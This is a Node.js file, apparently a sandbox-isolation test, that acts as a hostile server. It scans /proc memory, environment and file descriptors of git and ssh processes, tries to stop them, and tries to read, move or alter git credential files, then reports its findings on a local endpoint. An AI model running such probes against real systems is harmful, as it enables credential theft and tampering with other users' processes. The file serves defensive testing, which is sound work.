// The server of a hostile site, which looks for secrets for as long as it runs: it may
// find them while git speaks to the remote. GET /seen says what came of it.
import fs from "node:fs";
import http from "node:http";
import os from "node:os";
import path from "node:path";

// Written backwards, so that it does not find them here.
const secrets = JSON.parse(fs.readFileSync("/session/workspace/backwards.json", "utf8")).map((s) => [...s].reverse().join(""));
const seen = { rounds: 0, git: [], keys: 0, found: [] };
const found = (what) => seen.found.length < 20 && seen.found.push(what);
const attempt = (what, how) => {
	try {
		if (how() !== false) found(what);
	} catch {}
};
const look = (file) => {
	try {
		const text = fs.readFileSync(file, "latin1");
		if (secrets.some((s) => text.includes(s))) found(`it is in ${file}`);
		return text;
	} catch {
		return "";
	}
};

function processes() {
	for (const pid of fs.readdirSync("/proc").filter((n) => /^\d+$/.test(n))) {
		const dir = `/proc/${pid}`;
		try {
			if (fs.statSync(dir).uid === process.getuid()) continue;
		} catch {
			continue;
		}
		const name = look(`${dir}/comm`).trim();
		look(`${dir}/cmdline`);
		look(`${dir}/status`);
		const speaks = /^(ssh|git-remote-http)/.test(name);
		if (speaks && !seen.git.includes(name)) seen.git.push(name);
		if (!speaks && name !== "git" && name !== "containerboot") continue;
		for (const file of ["environ", "mem", "maps", "auxv", "io", "stack", "syscall", `task/${pid}/environ`]) {
			attempt(`read ${file} of ${name}`, () => fs.readFileSync(`${dir}/${file}`).length > 0); // of one that has ended there is nothing
		}
		attempt(`wrote memory of ${name}`, () => { fs.openSync(`${dir}/mem`, "r+"); });
		for (const folder of ["fd", "fdinfo", "map_files", "cwd/", "root/"]) attempt(`listed ${folder} of ${name}`, () => { fs.readdirSync(`${dir}/${folder}`); });
		for (let fd = 0; fd < 12; fd++) attempt(`opened descriptor ${fd} of ${name}`, () => { fs.readFileSync(`${dir}/fd/${fd}`); });
		attempt(`stopped ${name}`, () => process.kill(Number(pid), "SIGSTOP"));
		attempt(`slowed ${name}`, () => { os.setPriority(Number(pid), 19); });
	}
}

function files(dir) {
	let entries = [];
	try { entries = fs.readdirSync(dir, { withFileTypes: true }); } catch {}
	for (const e of entries) {
		const file = path.join(dir, e.name);
		if (dir === "/session" && e.name.startsWith("git.new-") && e.isFile()) {
			seen.keys++;
			attempt(`read ${file}`, () => { fs.readFileSync(file); });
			attempt(`took ${file}`, () => { fs.renameSync(file, "/tmp/taken"); });
			attempt(`named ${file}`, () => { fs.linkSync(file, "/session/workspace/named"); });
			attempt(`opened ${file} to others`, () => { fs.chmodSync(file, 0o666); });
			attempt(`wrote ${file}`, () => { fs.appendFileSync(file, "x"); });
		}
		if (e.isDirectory()) {
			if (e.name !== "workspace" && e.name !== "npm") files(file);
		} else if (e.isFile()) {
			look(file);
		} else if (e.isSocket()) {
			found(`a socket ${file}`);
		}
	}
}

(async () => {
	for (; ; seen.rounds++) {
		processes();
		files("/session");
		files("/tmp");
		files("/dev/shm");
		await new Promise((done) => setTimeout(done, 5));
	}
})();
http.createServer((_, res) => res.end(JSON.stringify(seen))).listen(process.env.PORT, process.env.HOST);
